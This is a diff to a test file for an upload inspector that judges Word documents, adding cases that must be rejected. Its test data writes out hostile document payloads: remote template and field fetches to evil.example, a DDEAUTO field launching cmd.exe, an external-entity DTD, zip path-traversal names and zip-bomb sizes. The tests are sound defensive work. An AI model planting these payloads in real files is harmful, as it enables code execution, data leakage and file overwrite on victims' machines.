@@ -2,12 +2,19 @@ import { mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Readable } from 'node:stream';
+import { MB, messages } from '@easy-tax/contracts';
 import { DiskObjectStore } from '../storage/disk-object-store.js';
 import { newObjectKey, type ObjectStore } from '../storage/object-store.js';
 import * as files from '../testing/files.js';
 import { aZip } from '../testing/zip.js';
 import { DeepInspection } from './deep-inspection.js';
 import type { Candidate } from './sniff-type.js';
+
+const withTemplate = (target: string) =>
+  aZip({
+    ...files.wordParts(),
+    'word/_rels/settings.xml.rels': files.relationships(files.aRelationship('attachedTemplate', target)),
+  });
 
 describe('a file inspected whole', () => {
   let root: string;
@@ -39,7 +46,7 @@ describe('a file inspected whole', () => {
     ['a workbook', 'docx', files.aDocx('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml')],
     ['a list of types without the document', 'docx', files.aDocxWithoutItsDocument()],
     ['an encrypted archive', 'docx', files.aDocx(undefined, { encrypted: true })],
-    ['an archive that would unpack to gigabytes', 'docx', files.aDocx(undefined, { claimedSize: 4_000_000_000 })],
+    ['an archive that would unpack to gigabytes', 'docx', files.aDocx(undefined, { claimedSize: () => 4_000_000_000 })],
     ['an archive whose list of types is a bomb', 'docx', files.aDocxWhoseTypesAreABomb()],
     ['an archive cut short', 'docx', files.aDocx().subarray(0, 60)],
     ['an old workbook', 'doc', files.anOleFile('Workbook')],
@@ -49,7 +56,122 @@ describe('a file inspected whole', () => {
     ['a raw picture of a camera', 'tiff', files.aCameraRaw()],
     ['a TIFF cut short', 'tiff', files.aTiff().subarray(0, 9000)],
   ] as const)('is refused when it is %s', async (_, candidate, bytes) => {
-    expect(await judge(candidate, bytes)).toBeNull();
+    await expect(judge(candidate, bytes)).rejects.toThrow(messages.fileKind);
+  });
+
+  const word = (changes: Record<string, string | Buffer> = {}) => aZip({ ...files.wordParts(), ...changes });
+
+  it.each([
+    ['Word writes it, with all that a document may have', word()],
+    ['Word for Mac names its template', withTemplate('file:////Users/asha/Library/Letter%20Head.dotm')],
+    ['Word names a template beside the document', withTemplate('Letter.dotm')],
+    ['it lies on another disk', withTemplate('D:\\Templates\\Letter.dotm')],
+  ])('is taken as a document as %s', async (_, bytes) => {
+    expect(await judge('docx', bytes)).toMatch('wordprocessingml');
+  });
+
+  it.each([
+    'https://evil.example/a.dotm',
+    'HTTP://evil.example/a.dotm',
+    'h&#116;tp://evil.example/a.dotm',
+    ' http%3A//evil.example/a.dotm',
+    'ftp://evil.example/a.dotm',
+    'mhtml:http://evil.example/a!x-usc:http://evil.example',
+    '\\\\evil.example\\share\\a.dotm',
+    '//evil.example/share/a.dotm',
+    'file://evil.example/share/a.dotm',
+    'file:////evil.example/share/a.dotm',
+    'file:///%5C%5Cevil.example\\share\\a.dotm',
+    'file:\\\\evil.example\\share\\a.dotm',
+    'file:///\\?\\UNC\\evil.example\\share\\a.dotm',
+  ])('is refused, with the advice to save it as PDF, when its template is %s', async (target) => {
+    await expect(judge('docx', withTemplate(target))).rejects.toThrow(messages.documentUnsafe);
+  });
+
+  const withRelationship = (relationship: string, part = 'word/_rels/footnotes.xml.rels') =>
+    word({ [part]: files.relationships(relationship) });
+  const withText = (xml: string) => word({ 'word/footer1.xml': `<w:ftr xmlns:w="w" xmlns:v="v">${xml}</w:ftr>` });
+  const field = (...pieces: string[]) =>
+    withText(
+      `<w:fldChar w:fldCharType="begin"/>${pieces.map((piece) => `<w:instrText>${piece}</w:instrText>`).join('')}`,
+    );
+
+  it.each([
+    ...['image', 'oleObject', 'frame', 'subDocument', 'aFChunk', 'mailMergeSource'].map(
+      (type) =>
+        [`has an external ${type}`, withRelationship(files.aRelationship(type, 'https://evil.example/'))] as const,
+    ),
+    ['has a page of another kind in it', withRelationship(files.aRelationship('aFChunk', 'page.mht', false))],
+    [
+      'has a target elsewhere that calls itself its own',
+      withRelationship(files.aRelationship('image', 'http://evil.example/', false)),
+    ],
+    [
+      'has such a relationship in a part that nothing names',
+      withRelationship(files.aRelationship('image', 'http://evil.example/'), 'Custom/_RELS/x.xml.RELS'),
+    ],
+    [
+      'has a relationship by another prefix',
+      word({
+        'word/_rels/footnotes.xml.rels': files
+          .relationships(files.aRelationship('image', 'http://evil.example/'))
+          .replaceAll(/(<\/?)Rel/g, '$1p:Rel')
+          .replace('xmlns=', 'xmlns:p='),
+      }),
+    ],
+    ['has a field that fetches a picture', field(' INCLUDE', 'PICTURE  "https://evil.example/a.png" \\d ')],
+    [
+      'has a field that fetches, with another within',
+      field(
+        'INCLUDEPICTURE ',
+        `</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>"http://evil.example/a.png"`,
+      ),
+    ],
+    ['has a field that includes from a server', field(' INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx" ')],
+    ['has a field that starts a program', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
+    ['has such a field in short form', withText('<w:fldSimple w:instr="LINK Word.Document.8 http://evil.example/a"/>')],
+    ['has a drawing that fetches its picture', withText('<v:imagedata src="http://evil.example/a.png"/>')],
+    ['has a DTD', word({ 'word/settings.xml': '<!DOCTYPE w [<!ENTITY e SYSTEM "http://evil.example/">]><w>&e;</w>' })],
+    [
+      'has a DTD in another encoding',
+      word({ 'word/settings.xml': Buffer.from('\ufeff<!DOCTYPE w [<!ENTITY e "x">]><w>&e;</w>', 'utf16le') }),
+    ],
+    [
+      'has a part in an encoding that none may have',
+      word({ 'word/settings.xml': '<?xml version="1.0" encoding="utf-7"?><w/>' }),
+    ],
+    ['has a part that is not well-formed', word({ 'word/settings.xml': '<w><v></w>' })],
+    ['has a part outside of itself', word({ '../../evil.xml': '<w/>' })],
+    ['has a part outside of itself behind escapes', word({ 'word/%2E%2e/evil.xml': '<w/>' })],
+    ['has a part at the root', word({ '/etc/evil.xml': '<w/>' })],
+    ['has a part on a disk', word({ 'c:/evil.xml': '<w/>' })],
+    ['has a part behind backslashes', word({ '..\\evil.xml': '<w/>' })],
+    ['has a part twice', aZip([...Object.entries(files.wordParts()), ['WORD/Document.xml', '<w/>']])],
+    ['has a part in pieces', word({ 'word/_rels/document.xml.rels/[0].last.piece': files.relationships() })],
+    [
+      'unpacks to 500 MB',
+      aZip(files.wordParts(), { claimedSize: (name) => (name.endsWith('.png') ? 500 * MB : undefined) }),
+    ],
+    [
+      'unpacks to more than it declares',
+      aZip(
+        { ...files.wordParts(), 'word/media/image3.bmp': Buffer.alloc(2 * MB) },
+        { claimedSize: (name) => (name.endsWith('.bmp') ? 4000 : undefined) },
+      ),
+    ],
+    [
+      'has relationships that unpack to more than they declare',
+      aZip(
+        { ...files.wordParts(), 'word/_rels/a.xml.rels': files.relationships(' '.repeat(2 * MB)) },
+        { claimedSize: (name) => (name.endsWith('a.xml.rels') ? 400 : undefined) },
+      ),
+    ],
+    [
+      'has more text than anybody writes',
+      aZip(files.wordParts(), { claimedSize: (name) => (name === 'word/settings.xml' ? 33 * MB : undefined) }),
+    ],
+  ] as const)('is refused, with the advice to save it as PDF, when it %s', async (_, bytes) => {
+    await expect(judge('docx', bytes)).rejects.toThrow(messages.documentUnsafe);
   });
 
   it.each(['<!--', '<Override '])(
@@ -57,20 +179,21 @@ describe('a file inspected whole', () => {
     async (beginning) => {
       const shared = new DeepInspection(store);
       const slow = [1, 2].map(() => judge('docx', files.aDocxWhoseTypesNeverEnd(beginning), shared));
-      expect(await judge('docx', files.aDocx(), shared)).not.toBeNull();
-      expect(await Promise.all(slow)).toEqual([null, null]);
+      const refusals = Promise.allSettled(slow);
+      expect(await judge('docx', files.aDocx(), shared)).toMatch('wordprocessingml');
+      expect((await refusals).map(({ status }) => status)).toEqual(['rejected', 'rejected']);
     },
     4000,
   );
 
   it('is refused when judging it takes too long', async () => {
-    expect(await judge('docx', files.aDocx(), new DeepInspection(store, 0))).toBeNull();
+    await expect(judge('docx', files.aDocx(), new DeepInspection(store, 0))).rejects.toThrow(messages.fileKind);
   });
 
   it('waits its turn among many', async () => {
     const shared = new DeepInspection(store);
     const verdicts = await Promise.all(Array.from({ length: 6 }, () => judge('doc', files.aDoc(), shared)));
-    expect(new Set(verdicts)).toEqual(new Set(['application/msword']));
+    expect(verdicts).toEqual(Array(6).fill('application/msword'));
   });
 
   it('says so when the store fails, instead of refusing the file', async () => {
